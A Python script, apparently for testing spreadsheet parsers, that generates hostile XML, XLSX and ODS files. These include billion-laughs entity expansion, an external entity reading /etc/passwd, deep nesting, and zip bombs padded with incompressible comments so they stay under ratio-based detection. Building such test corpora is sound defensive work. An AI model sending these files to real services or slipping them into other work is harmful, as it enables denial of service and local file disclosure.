"""Writes files that attack their reader, some of each format: make_attacks.py FOLDER

Each is as costly as a file of its size was found to be made. Some deflated parts are mixed with
comments that do not deflate, so that a bomb stays below the ratio that gives a large one away.
"""

import os
import random
import sys
import zipfile

SS = "urn:schemas-microsoft-com:office:spreadsheet"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OASIS = "urn:oasis:names:tc:opendocument:xmlns"
MIB = 1 << 20
folder = sys.argv[1]


def numbered(count, text):
    return "".join(text % n for n in range(count))


def attributes(count, name, value=""):
    return "".join(f'{name}{n}="{value}" ' for n in range(count))


def repeated(text, size):
    return text * (size // len(text.encode()))


# XML Spreadsheet 2003.

def book(name, table, before="", doctype=""):
    with open(f"{folder}/{name}.xml", "w", encoding="utf-8") as file:
        file.write(f'<?xml version="1.0"?>{doctype}<Workbook xmlns="{SS}" xmlns:ss="{SS}">'
                   f'{before}<Worksheet ss:Name="S"><Table>{table}</Table></Worksheet></Workbook>')


def cell(text):
    return f'<Row><Cell><Data ss:Type="String">{text}</Data></Cell></Row>'


def font(name):
    return f'<Font ss:FontName="{name}"/>'


def xml():
    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
    book("entities", cell("&a12;"), doctype=f"<!DOCTYPE Workbook [{laughs}]>")
    book("outside", cell("&x;"), doctype='<!DOCTYPE W [<!ENTITY x SYSTEM "/etc/passwd">]>')
    book("depth", "<Row>" * 1_000_000)
    book("attributes", f"<Row {attributes(60_000, 'a')}/>")
    book("names", numbered(1_000_000, "<a%d/>"))
    book("namespaces", repeated(f"<Row {attributes(9_000, 'xmlns:a', 'u')}/>", 64 * MIB))
    nested = "".join(f"<Row {attributes(120, f'xmlns:n{n}x', 'u')}>" for n in range(50))
    book("scopes", nested + repeated(f"<n0x0:a {attributes(250, 'n0x0:b')}/>", 32 * MIB))
    book("text", cell("0123456789abcdef" * (4 * MIB)))
    book("comment", f'<!--{"0123456789" * (2 * MIB)}-->')
    book("empty", repeated("<Row/>", 64 * MIB))
    book("references", repeated(cell("&#65;" * 100_000), 64 * MIB))
    book("styles", "", "<Styles>" + numbered(
        60_000, f'<Style ss:ID="{"x" * 1_000}%d">{font("y" * 1_000)}</Style>') + "</Styles>")
    legacy = f'<Styles><Style ss:ID="v">{font(".VnTime")}</Style></Styles>'
    book("columns", numbered(16_384, '<Column ss:Index="%d" ss:StyleID="v"/>')
         + repeated(f'<Row>{"<Cell><Data>a</Data></Cell>" * 20}</Row>', 64 * MIB), legacy)
    book("merges", repeated('<Row><Cell ss:MergeAcross="16383" ss:MergeDown="1048000"/></Row>',
                            64 * MIB))
    book("jumps", numbered(1_000_000, '<Row ss:Index="%d"><Cell ss:Index="16384"><Data>a</Data>'
                                      "</Cell></Row>"))


# Packages.

def package(name, parts):
    with zipfile.ZipFile(f"{folder}/{name}", "w", zipfile.ZIP_DEFLATED) as archive:
        for part, text in parts:
            with archive.open(part, "w") as entry:
                for piece in [text] if isinstance(text, str) else text:
                    entry.write(piece.encode())


def padded(head, text, size, tail):
    """A part of this size, a hundredth of which does not deflate."""
    noise = random.Random(1)
    yield head
    unit = repeated(text, 1 * MIB)
    for _ in range(size // MIB):
        yield unit
        yield f"<!--{noise.randbytes(8_000).hex()}-->"
    yield tail


def relationships(*kinds):
    inner = "".join(f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{target}"/>'
                    for n, (kind, target) in enumerate(kinds, 1))
    return f'<Relationships xmlns="{PACKAGE}">{inner}</Relationships>'


def xlsx(name, sheet, strings="", sheets=1):
    tabs = numbered(sheets, '<sheet name="S%d" r:id="r1"/>')
    package(f"{name}.xlsx", [
        ("_rels/.rels", relationships(("officeDocument", "book.xml"))),
        ("book.xml", f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{tabs}</sheets>'
                     "</workbook>"),
        ("_rels/book.xml.rels", relationships(
            ("worksheet", "sheet.xml"), ("sharedStrings", "strings.xml"))),
        ("strings.xml", strings or f'<sst xmlns="{MAIN}"/>'), ("sheet.xml", sheet)])


def sheet(data, after=""):
    return f'<worksheet xmlns="{MAIN}"><sheetData>{data}</sheetData>{after}</worksheet>'


def xlsx_attacks():
    head, tail = f'<worksheet xmlns="{MAIN}"><sheetData>', "</sheetData></worksheet>"
    strings = f'<sst xmlns="{MAIN}">'
    xlsx("bomb", sheet(repeated("<row/>", 200 * MIB)))
    xlsx("empty", padded(head, "<row/>", 1024 * MIB, tail))
    xlsx("same-sheet", padded(head, "<row><c/></row>", 64 * MIB, tail), sheets=1_000)
    xlsx("sparse", sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))
    xlsx("shared", sheet(""), padded(strings, f'<si><t>{"x" * 100}</t></si>', 160 * MIB, "</sst>"))
    xlsx("shared-empty", sheet(""), padded(strings, "<si/>", 300 * MIB, "</sst>"))
    text = "0123456789abcdef" * 2_040
    xlsx("same-text", padded(head, '<row><c t="s"><v>0</v></c></row>', 512 * MIB, tail),
         f"{strings}<si><t>{text}</t></si></sst>")
    xlsx("same-long-text", padded(head, '<row><c t="s"><v>0</v></c></row>', 512 * MIB, tail),
         f'{strings}<si><t>{"0123456789" * 100_000}</t></si></sst>')
    xlsx("merges", sheet("<row><c><v>1</v></c></row>", "<mergeCells>" + numbered(
        1 << 20, '<mergeCell ref="A%d:XFD1048576"/>') + "</mergeCells>"))
    broken_sheets("broken-sheets", 1_000)
    with zipfile.ZipFile(f"{folder}/parts.xlsx", "w") as archive:
        for number in range(65_000):
            archive.writestr(f"xl/drawings/drawing{number}.xml", "")
        archive.writestr("_rels/.rels", relationships(("officeDocument", "book.xml")))
    with zipfile.ZipFile(f"{folder}/names.xlsx", "w") as archive:
        for number in range(1_000):
            archive.writestr(f"{number:04}" + "é" * 30_000, "")


def broken_sheets(name, count):
    """Sheets that end with their first letters for whoever reads them, and inflate far."""
    tabs = "".join(f'<sheet name="S{n}" r:id="r{n + 1}"/>' for n in range(count))
    package(f"{name}.xlsx", [
        ("_rels/.rels", relationships(("officeDocument", "book.xml"))),
        ("book.xml", f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{tabs}</sheets>'
                     "</workbook>"),
        ("_rels/book.xml.rels", relationships(
            *(("worksheet", f"sheet{n}.xml") for n in range(count))))] + [
        (f"sheet{n}.xml", "<<" + "x" * (16 * MIB)) for n in range(count)])


def ods(name, rows):
    names = "".join(f' xmlns:{n}="{OASIS}:{n}:1.0"' for n in ("office", "table", "text"))
    head = (f"<office:document-content{names}><office:body><office:spreadsheet>"
            '<table:table table:name="S">')
    tail = "</table:table></office:spreadsheet></office:body></office:document-content>"
    content = head + rows + tail if isinstance(rows, str) else padded(head, *rows, tail)
    package(f"{name}.ods", [
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", content)])
    if isinstance(rows, str):
        with open(f"{folder}/{name}.fods", "w", encoding="utf-8") as file:
            file.write((head + rows + tail).replace("document-content", "document"))


def ods_attacks():
    t = "table:table-cell"
    number = f'{t} office:value-type="float" office:value="1"'
    ods("repeats", f'<table:table-row table:number-rows-repeated="999999999"><{number} '
                   'table:number-columns-repeated="999999999"/></table:table-row>')
    ods("repeated-text", f'<table:table-row><{t} office:value-type="string" '
                         f'table:number-columns-repeated="16384"><text:p>{"x" * 1_000_000}</text:p>'
                         f"</{t}></table:table-row>")
    row = "<table:table-row>%s</table:table-row>"
    ods("blanks", (row % (f'<{t} office:value-type="string"><text:p><text:s text:c="1000000"/>'
                          f"</text:p></{t}>"), 32 * MIB))
    ods("blanks-beside", (row % (f'<{number}><text:p><text:s text:c="1000000"/></text:p></{t}>'),
                          32 * MIB))
    ods("empty", ("<table:table-row/>", 1024 * MIB))


os.makedirs(folder, exist_ok=True)
xml()
xlsx_attacks()
ods_attacks()
